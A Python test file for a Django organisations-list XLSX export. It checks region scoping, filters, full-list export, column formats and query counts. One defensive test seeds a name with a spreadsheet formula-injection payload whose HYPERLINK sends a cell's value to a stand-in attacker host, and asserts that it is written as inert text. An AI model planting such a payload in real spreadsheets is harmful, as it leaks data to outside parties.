"""The organisations list downloads as XLSX: every organisation the list shows with its filters, no other."""

import datetime
import io

import openpyxl
import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from pilots.models import Organisation
from pilots.tests.factories import CoordinatorFactory, InstituteFactory, OrganisationFactory, RegionFactory

pytestmark = pytest.mark.django_db


def _export(client, user, **params):
    client.force_login(user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    response = client.get(reverse("organisation_list_export"), params)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="organisations-')
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [list(row) for row in sheet.iter_rows(values_only=True)], sheet


def test_a_coordinators_export_holds_their_region_only(client):
    ours, theirs = RegionFactory(code="KZ-71"), RegionFactory(code="KZ-75")
    mine = OrganisationFactory(region=ours)
    other = OrganisationFactory(region=theirs)
    rows, _sheet = _export(client, CoordinatorFactory(region=ours))
    bins = [row[1] for row in rows[1:]]
    assert other.bin not in bins
    assert bins == [mine.bin]  # the positive control: their own region's organisation is there


def test_the_export_keeps_the_lists_filters(client):
    region = RegionFactory(code="KZ-71")
    private = OrganisationFactory(region=region, ownership=Organisation.Ownership.PRIVATE)
    OrganisationFactory(region=region, ownership=Organisation.Ownership.STATE)
    rows, sheet = _export(client, InstituteFactory(), ownership="private")
    assert [row[1] for row in rows[1:]] == [private.bin]
    assert sheet.parent.properties.description.endswith("Ownership: private")


def test_the_export_holds_every_organisation_not_a_page(client):
    region = RegionFactory(code="KZ-71")
    OrganisationFactory.create_batch(27, region=region)  # the page shows 25
    rows, _sheet = _export(client, InstituteFactory())
    assert len(rows) == 1 + 27


def test_the_export_writes_each_column_as_a_reader_expects(client):
    organisation = OrganisationFactory(
        region=RegionFactory(code="KZ-71", name_en="Astana"),
        name_en="Kindergarten No. 7",
        children=120,
        ownership=Organisation.Ownership.PRIVATE,
        in_pilot_from=datetime.date(2026, 1, 12),
    )
    rows, sheet = _export(client, InstituteFactory())
    header, row = rows
    assert header[:5] == ["Organisation", "BIN", "Region", "District or city", "Ownership"]
    line = dict(zip(header, row, strict=True))
    assert (line["Organisation"], line["BIN"], line["Region"]) == ("Kindergarten No. 7", organisation.bin, "Astana")
    assert (line["Ownership"], line["Children"]) == ("private", 120)
    assert line["In the pilot from"] == datetime.datetime(2026, 1, 12)
    assert sheet.cell(row=2, column=header.index("In the pilot from") + 1).number_format == "dd.mm.yyyy"
    assert line["In the pilot until"] is None


def test_the_exports_queries_do_not_grow_with_the_number_of_organisations(client):
    region = RegionFactory(code="KZ-71")
    user = InstituteFactory()
    OrganisationFactory.create_batch(3, region=region)
    _export(client, user)  # the first request of a session reads what later ones find cached
    with CaptureQueriesContext(connection) as few:
        _export(client, user)
    OrganisationFactory.create_batch(40, region=RegionFactory(code="KZ-75"))
    with CaptureQueriesContext(connection) as many:
        rows, _sheet = _export(client, user)
    assert len(rows) == 1 + 43  # the control: the second export did read the new organisations
    assert len(many) == len(few)


def test_a_name_that_looks_like_a_formula_is_exported_as_text(client):
    formula = '=HYPERLINK("http://evil.example/?"&B2,"click")'
    OrganisationFactory(region=RegionFactory(code="KZ-71"), name_en=formula, director="Асанова Д.")
    rows, sheet = _export(client, InstituteFactory())
    assert rows[1][0] == formula
    assert sheet.cell(row=2, column=1).data_type == "s"  # a string cell, which no spreadsheet evaluates
    assert sheet.cell(row=2, column=10).value == "Асанова Д."  # the control: the row is the one we wrote
